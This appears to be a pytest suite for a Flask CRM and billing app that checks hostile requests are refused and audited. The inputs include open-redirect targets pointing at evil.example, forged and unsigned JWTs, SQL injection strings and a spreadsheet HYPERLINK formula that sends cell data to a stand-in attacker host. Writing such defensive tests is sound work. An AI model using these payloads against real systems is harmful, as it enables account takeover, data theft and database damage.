"""Hostile requests: redirects off the site and spoofed hosts at sign-in, forged and expired
tokens, cross-site writes with a session cookie, API list arguments out of bounds, ambiguous
JSON, ids beyond any record, SQL in search boxes, and malformed import files (formulas, wrong
separator, missing columns, a byte-order mark, 50 MB, binary junk). Each is refused clearly,
writes nothing and, where somebody tried something, is in the audit log."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import jwt
import pytest
from flask_jwt_extended import create_access_token
from sqlalchemy import insert

from app.billing.models import Invoice
from app.extensions import db
from app.leads.models import Lead, LeadImport
from tests.billing_support import make_client
from tests.billing_support import two_lines as invoice_lines
from tests.hostile_support import assert_refusal_audited, audit_mark, audited_since, bearer
from tests.support import PASSWORD, count, login, make_branch, make_lead, make_staff

EVIL = "evil.example"


@pytest.fixture
def agent(app):
    person = make_staff("Agent", make_branch(tz="UTC"))
    db.session.commit()
    return person


@pytest.fixture
def strict(app, monkeypatch):
    """The app with its production protections on: CSRF tokens checked, known hosts only."""
    monkeypatch.setitem(app.config, "WTF_CSRF_ENABLED", True)
    monkeypatch.setitem(app.config, "TRUSTED_HOSTS", ["localhost", "127.0.0.1"])
    return app


def csrf_token(http, path: str = "/login/") -> str:
    page = http.get(path).get_data(as_text=True)
    match = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page) or re.search(
        r'value="([^"]+)"[^>]*name="csrf_token"', page
    )
    assert match, f"{path} carries a CSRF token"
    return match.group(1)


def strict_login(http, username: str) -> None:
    answer = http.post(
        "/login/",
        data={"username": username, "password": PASSWORD, "csrf_token": csrf_token(http)},
    )
    assert answer.status_code == 302 and "/login" not in answer.headers["Location"]


# ---- signing in ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        f"//{EVIL}/steal",
        f"https://{EVIL}/steal",
        f"/\\{EVIL}/steal",
        f"\\\\{EVIL}/steal",
        f"/\\/{EVIL}",
        f"https:{EVIL}",
    ],
)
def test_sign_in_never_redirects_off_the_site(client, agent, target):
    mark = audit_mark()
    answer = client.post(
        "/login/",
        query_string={"next": target},
        data={"username": agent.user.username, "password": PASSWORD},
    )
    assert answer.status_code == 302
    location = answer.headers["Location"]
    assert EVIL not in location and "\\" not in location and not location.startswith("//")
    assert audited_since(mark, "login")  # the sign-in itself worked
    refusals = audited_since(mark, "permission_denied")
    assert any("redirect off the site" in (row.detail or "") for row in refusals)


@pytest.mark.parametrize("target", [f"\t//{EVIL}", f"/\x00//{EVIL}", f"\r\n//{EVIL}"])
def test_a_next_with_control_characters_is_refused(client, agent, target):
    mark = audit_mark()
    answer = client.post(
        "/login/",
        query_string={"next": target},
        data={"username": agent.user.username, "password": PASSWORD},
    )
    assert answer.status_code == 400
    assert "control character" in answer.get_data(as_text=True)
    assert "Location" not in answer.headers
    assert audited_since(mark, "rejected") and not audited_since(mark, "login")


def test_a_spoofed_host_is_refused_when_hosts_are_configured(strict, agent):
    http = strict.test_client()
    answer = http.get("/login/?next=/leadview/list/", headers={"Host": EVIL})
    assert answer.status_code == 400
    html = answer.get_data(as_text=True)
    assert "is not trusted" in html
    assert not re.search(rf'(href|action|src)="https?://{re.escape(EVIL)}', html)
    assert http.get("/login/", headers={"Host": "localhost"}).status_code == 200


def test_a_spoofed_host_gets_no_link_or_redirect_to_it(client, agent):
    page = client.get(f"/login/?next=http://{EVIL}/x", headers={"Host": EVIL})
    html = page.get_data(as_text=True)
    assert not re.search(rf'(href|action|src)="https?://{re.escape(EVIL)}', html)
    answer = client.post(
        f"/login/?next=http://{EVIL}/x",
        data={"username": agent.user.username, "password": PASSWORD},
        headers={"Host": EVIL},
    )
    assert answer.status_code == 302
    assert EVIL not in answer.headers["Location"]


@pytest.mark.parametrize("username", ["agent\x00admin", "x" * 10_000, "admin' OR '1'='1"])
def test_hostile_user_names_fail_sign_in_and_are_audited(client, agent, username):
    mark = audit_mark()
    answer = client.post(
        "/api/v1/security/login",
        json={"username": username, "password": PASSWORD, "provider": "db"},
    )
    assert answer.status_code in (400, 401), answer.json
    form = client.post("/login/", data={"username": username, "password": PASSWORD})
    assert form.status_code in (200, 302) and "/login" in form.headers.get("Location", "/login")
    failed = audited_since(mark, "login_failed")
    assert failed and not audited_since(mark, "login")


def test_sign_in_with_a_nul_byte_on_postgresql(pg_app):
    http = pg_app.test_client()
    make_staff("Agent", make_branch(tz="UTC"), username="pgagent")
    db.session.commit()
    mark = audit_mark()
    for username in ("pg\x00agent", "pgagent\x00"):
        answer = http.post(
            "/api/v1/security/login",
            json={"username": username, "password": PASSWORD, "provider": "db"},
        )
        assert answer.status_code in (400, 401), answer.get_data(as_text=True)
        assert http.post("/login/", data={"username": username, "password": "x"}).status_code in (
            200,
            302,
        )
    assert len(audited_since(mark, "login_failed")) >= 2


# ---- bearer tokens ------------------------------------------------------------------------


def _expired_token(app, user_id: int) -> str:
    return create_access_token(identity=str(user_id), expires_delta=timedelta(seconds=-60))


@pytest.mark.parametrize("kind", ["expired", "forged", "unsigned", "garbage"])
def test_bad_bearer_tokens_are_401_and_audited(app, client, agent, kind):
    claims = {"sub": str(agent.user_id), "type": "access", "fresh": False, "jti": "x"}
    token = {
        "expired": lambda: _expired_token(app, agent.user_id),
        "forged": lambda: jwt.encode(claims, "not-our-secret-" * 4, algorithm="HS256"),
        "unsigned": lambda: jwt.encode(claims, None, algorithm="none"),
        "garbage": lambda: "not.a.token",
    }[kind]()
    mark = audit_mark()
    answer = client.post(
        "/api/v1/lead/",
        json={"first_name": "Asha", "last_name": "Verma", "email": "asha@example.com"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 401, answer.json
    assert "Not signed in" in answer.json["message"] or "expired" in answer.json["message"]
    assert count(Lead) == 0
    assert [row for row in audited_since(mark, "login_failed") if "bearer" in row.detail]


# ---- cross-site writes with the browser's session cookie ----------------------------------


def test_a_cross_site_api_post_with_a_session_cookie_is_refused(strict):
    manager = make_staff("Manager", make_branch(tz="UTC"))
    customer = make_client(make_staff("Agent", manager.branch))
    db.session.commit()
    http = strict.test_client()
    strict_login(http, manager.user.username)
    body = {"client_id": customer.id, "lines": invoice_lines()}
    mark = audit_mark()
    refused = http.post("/api/v1/invoice/", json=body, headers={"Origin": f"https://{EVIL}"})
    assert refused.status_code == 400
    assert "CSRF" in refused.json["message"]
    assert count(Invoice) == 0
    denied = audited_since(mark, "permission_denied")
    assert any("CSRF" in row.detail and "/api/v1/invoice/" in row.detail for row in denied)
    # Our own page, sending its token, may.
    token = csrf_token(http, "/leadview/add")
    made = http.post("/api/v1/invoice/", json=body, headers={"X-CSRFToken": token})
    assert made.status_code == 201, made.json
    assert count(Invoice) == 1


def test_a_cross_site_form_post_with_a_session_cookie_is_refused(strict, agent):
    http = strict.test_client()
    strict_login(http, agent.user.username)
    mark = audit_mark()
    form = {"first_name": "Cross", "last_name": "Site", "email": "x@example.com"}
    refused = http.post("/leadview/add", data={**form, "source": "manual", "status": "new"})
    assert refused.status_code == 400
    assert "CSRF token is missing" in refused.get_data(as_text=True)
    assert count(Lead) == 0
    assert any("CSRF" in row.detail for row in audited_since(mark, "permission_denied"))


# ---- API list arguments -------------------------------------------------------------------


def test_a_huge_page_size_is_capped(client, agent):
    rows = [
        {
            "first_name": "Bulk",
            "last_name": f"Lead{n}",
            "email": f"bulk{n}@example.com",
            "source": "manual",
            "status": "new",
            "branch_id": agent.branch_id,
            "assigned_agent_id": agent.user_id,
            "score": 0,
        }
        for n in range(101)
    ]
    db.session.execute(insert(Lead), rows)
    db.session.commit()
    answer = client.get("/api/v1/lead/?q=(page_size:1000000)", headers=bearer(client, agent))
    assert answer.status_code == 200
    assert (answer.json["count"], len(answer.json["result"])) == (101, 100)


@pytest.mark.parametrize(
    "q, words",
    [
        ("(page:-1)", "page"),
        ("(order_column:password)", "Invalid order by column"),
        ("(order_column:notes,order_direction:asc)", "Invalid order by column"),
        ("(filters:!((col:password,opr:sw,value:a)))", "not allowed to filter"),
        ("((((", "rison"),
        ("(page_size:'all')", "page_size"),
        ("(page:1.5)", "page"),
    ],
)
def test_bad_list_arguments_are_400_and_audited(client, agent, q, words):
    mark = audit_mark()
    answer = client.get(f"/api/v1/lead/?q={q}", headers=bearer(client, agent))
    assert answer.status_code == 400, answer.get_data(as_text=True)
    assert words in answer.get_data(as_text=True)
    assert_refusal_audited(mark, "lead")


def test_filtering_users_on_their_password_is_refused_and_audited(client, app):
    admin = make_staff("Admin", make_branch(tz="UTC"))
    db.session.commit()
    mark = audit_mark()
    for q in ("(filters:!((col:password,opr:sw,value:p)))", "(order_column:password)"):
        answer = client.get(f"/api/v1/security/users/?q={q}", headers=bearer(client, admin))
        assert answer.status_code == 400, answer.get_data(as_text=True)
        assert "password" in answer.json["message"]
        assert "pbkdf2" not in answer.get_data(as_text=True)
    assert len(audited_since(mark, "rejected")) >= 2


# ---- JSON bodies, ids, search boxes -------------------------------------------------------


@pytest.mark.parametrize(
    "body, words",
    [
        (
            '{"first_name": "Asha", "first_name": "Admin", "last_name": "V", '
            '"email": "a@example.com"}',
            "'first_name' appears twice",
        ),
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('{"first_name": "Asha", "last_name": "V", "email": "a@example.com"', "could not be read"),
    ],
)
def test_ambiguous_or_unreadable_json_is_400(client, agent, body, words):
    mark = audit_mark()
    answer = client.post(
        "/api/v1/lead/",
        data=body,
        headers={**bearer(client, agent), "Content-Type": "application/json"},
    )
    assert answer.status_code == 400
    assert words in answer.json["message"]
    assert count(Lead) == 0
    assert_refusal_audited(mark, "lead")


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", "/api/v1/lead/99999999999999999999"),
        ("GET", "/leadview/show/99999999999999999999"),
        ("GET", "/leadview/edit/99999999999999999999"),
        ("POST", "/api/v1/lead/99999999999999999999/convert"),
        ("GET", "/api/v1/client/99999999999999999999/timeline"),
    ],
)
def test_ids_beyond_any_record_are_404(client, agent, method, path):
    login(client, agent.user.username)
    answer = client.open(path, method=method, headers=bearer(client, agent), json={})
    assert answer.status_code == 404, answer.get_data(as_text=True)[:300]


def test_ids_beyond_any_record_are_404_on_postgresql(pg_app):
    agent = make_staff("Agent", make_branch(tz="UTC"))
    db.session.commit()
    http = pg_app.test_client()
    headers = bearer(http, agent)
    for path in ("/api/v1/lead/99999999999999999999", "/api/v1/lead/2147483648"):
        assert http.get(path, headers=headers).status_code == 404
    login(http, agent.user.username)
    assert http.get("/leadview/show/2147483648").status_code == 404
    answer = http.get("/api/v1/lead/?q=(page:-1)", headers=headers)
    assert answer.status_code == 400


def test_nul_bytes_in_searches_and_bodies_on_postgresql(pg_app):
    """PostgreSQL cannot even compare text holding a NUL byte: every way one arrives is
    refused as bad input, never passed to the database."""
    agent = make_staff("Agent", make_branch(tz="UTC"))
    customer = make_client(agent)
    db.session.commit()
    http = pg_app.test_client()
    headers = bearer(http, agent)
    mark = audit_mark()
    q = "(filters:!((col:first_name,opr:sw,value:'a\x00')))"
    answer = http.get(f"/api/v1/lead/?q={q}", headers=headers)
    assert answer.status_code == 400 and "NUL" in answer.json["message"]
    login(http, agent.user.username)
    page = http.get("/leadview/list/", query_string={"_flt_0_first_name": "a\x00b"})
    assert page.status_code == 400 and "NUL" in page.get_data(as_text=True)
    body = {
        "client_id": customer.id,
        "sell_currency": "US\x00D",
        "buy_currency": "EUR",
        "sell_amount": "10.00",
    }
    quote = http.post("/api/v1/fxexchange/quote", json=body, headers=headers)
    assert quote.status_code == 422 and "sell_currency" in quote.json["message"]
    client_body = {"name": "Acme", "address": "1 Main St\x00"}
    made = http.post("/api/v1/client/", json=client_body, headers=headers)
    assert made.status_code == 422 and "address" in made.json["message"]
    assert len(audited_since(mark, "rejected")) >= 4


@pytest.mark.parametrize(
    "argument, value, words",
    [
        ("page_LeadView", "-1", "page number from 0"),
        ("page_LeadView", "99999999999999999999", "page number from 0"),
        ("psize_LeadView", "1000000", "from 1 to 100 rows"),
        ("psize_LeadView", "abc", "whole number"),
    ],
)
def test_list_screen_paging_out_of_bounds_is_400(client, agent, argument, value, words):
    login(client, agent.user.username)
    mark = audit_mark()
    page = client.get("/leadview/list/", query_string={argument: value})
    assert page.status_code == 400
    assert words in page.get_data(as_text=True)
    assert audited_since(mark, "rejected")
    assert client.get("/leadview/list/", query_string={argument: "1"}).status_code == 200


def test_sql_in_search_boxes_is_only_text(client, agent):
    make_lead(agent, first_name="Asha")
    db.session.commit()
    login(client, agent.user.username)
    page = client.get("/leadview/list/", query_string={"_flt_0_first_name": "' OR 1=1 --"})
    assert page.status_code == 200
    assert "Asha" not in page.get_data(as_text=True)
    q = "(filters:!((col:first_name,opr:sw,value:'!'; DROP TABLE lead; --')))"
    answer = client.get(f"/api/v1/lead/?q={q}", headers=bearer(client, agent))
    assert answer.status_code == 200 and answer.json["count"] == 0
    assert count(Lead) == 1


# ---- lead import files --------------------------------------------------------------------


def _upload(http, agent, data: bytes, name: str = "leads.csv"):
    return http.post(
        "/api/v1/leadimport/",
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
        headers=bearer(http, agent),
    )


def _csv(rows: list[list[str]], delimiter: str = ",") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


HEADER = ["first_name", "last_name", "email", "company", "notes"]


def test_formulas_in_imported_cells_stay_text_and_exports_neutralise_them(client, agent):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    data = _csv([HEADER, ["Asha", formula, "asha@example.com", formula, "@SUM(1+1)"]])
    uploaded = _upload(client, agent, data)
    assert uploaded.status_code == 202, uploaded.json
    imported = client.post(
        f"/api/v1/leadimport/{uploaded.json['id']}/import", headers=bearer(client, agent)
    )
    assert imported.status_code == 202, imported.json
    lead = db.session.query(Lead).one()
    assert (lead.last_name, lead.company, lead.notes) == (formula, formula, "@SUM(1+1)")
    login(client, agent.user.username)
    exported = client.get("/leadview/export/csv").get_data(as_text=True)
    assert f"'{formula}".replace('"', '""') in exported
    assert ",=HYPERLINK" not in exported and ',"=HYPERLINK' not in exported


def test_formulas_in_workbook_cells_are_imported_as_their_text(client, agent):
    from openpyxl import Workbook

    formula = '=HYPERLINK("http://evil.example","Open")'
    book = Workbook()
    book.active.append(HEADER)
    book.active.append(["Asha", "Verma", "asha@example.com", formula, "=1+1"])
    data = io.BytesIO()
    book.save(data)
    uploaded = _upload(client, agent, data.getvalue(), "leads.xlsx")
    assert uploaded.status_code == 202, uploaded.json
    answer = client.post(
        f"/api/v1/leadimport/{uploaded.json['id']}/import", headers=bearer(client, agent)
    )
    assert answer.status_code == 202
    lead = db.session.query(Lead).one()
    assert (lead.company, lead.notes) == (formula, "=1+1")


@pytest.mark.parametrize(
    "name, data, words",
    [
        (
            "leads.csv",
            _csv([HEADER, ["Asha", "Verma", "a@example.com", "", ""]], ";"),
            "separated by ';'",
        ),
        (
            "leads.csv",
            _csv([HEADER, ["Asha", "Verma", "a@example.com", "", ""]], "\t"),
            "separated by tabs",
        ),
        ("leads.csv", _csv([["email", "phone"], ["a@example.com", ""]]), "has no column"),
        ("leads.csv", bytes(range(256)) * 64, "is not text"),
        ("leads.csv", b"\xff\xfe\xfa" + b"\xc3(" * 500, "is not UTF-8 text"),
        ("leads.xlsx", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "not an Excel workbook"),
    ],
)
def test_malformed_import_files_are_refused_naming_the_problem(client, agent, name, data, words):
    mark = audit_mark()
    answer = _upload(client, agent, data, name)
    assert answer.status_code == 422, answer.json
    assert words in answer.json["message"]["file"][0]
    assert count(LeadImport) == 0 and count(Lead) == 0
    assert_refusal_audited(mark, "lead_import", "File")


def test_a_file_with_a_byte_order_mark_imports_correctly(client, agent):
    data = b"\xef\xbb\xbf" + _csv([HEADER, ["Asha", "Verma", "asha@example.com", "Acme", ""]])
    uploaded = _upload(client, agent, data)
    assert uploaded.status_code == 202, uploaded.json
    answer = client.post(
        f"/api/v1/leadimport/{uploaded.json['id']}/import", headers=bearer(client, agent)
    )
    assert answer.status_code == 202
    lead = db.session.query(Lead).one()
    assert (lead.first_name, lead.last_name, lead.company) == ("Asha", "Verma", "Acme")


class LazyUpload(io.RawIOBase):
    """A multipart body of ``size`` bytes made as it is read, counting what was read."""

    def __init__(self, size: int, boundary: str) -> None:
        self.head = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"'
            "\r\nContent-Type: text/csv\r\n\r\nfirst_name,last_name,email\r\n"
        ).encode()
        self.tail = f"\r\n--{boundary}--\r\n".encode()
        self.size, self.position, self.reads = size, 0, 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:  # the test client measures the body by seeking to its end
        return True

    def seek(self, offset: int, whence: int = io.SEEK_SET) -> int:
        self.position = offset if whence == io.SEEK_SET else self.size + offset
        return self.position

    def tell(self) -> int:
        return self.position

    def readinto(self, buffer) -> int:
        self.reads += 1
        n = min(len(buffer), self.size - self.position)
        for i in range(n):
            at = self.position + i
            if at < len(self.head):
                buffer[i] = self.head[at]
            elif at >= self.size - len(self.tail):
                buffer[i] = self.tail[at - (self.size - len(self.tail))]
            else:
                buffer[i] = ord("a")
        self.position += n
        return n


@pytest.mark.parametrize("path", ["/api/v1/leadimport/", "/leadimportview/upload"])
def test_a_50_mb_file_is_refused_by_its_size_unread(client, agent, path):
    size, boundary = 50 * 1024 * 1024, "hostile-boundary"
    body = LazyUpload(size, boundary)
    login(client, agent.user.username)
    mark = audit_mark()
    answer = client.post(
        path,
        input_stream=body,
        content_type=f"multipart/form-data; boundary={boundary}",
        headers=bearer(client, agent),
    )
    assert answer.status_code == 413
    assert "52,428,800 bytes" in answer.get_data(as_text=True)
    assert body.reads == 0  # judged by its declared size, not read
    assert count(LeadImport) == 0
    assert_refusal_audited(mark, None, "too large")
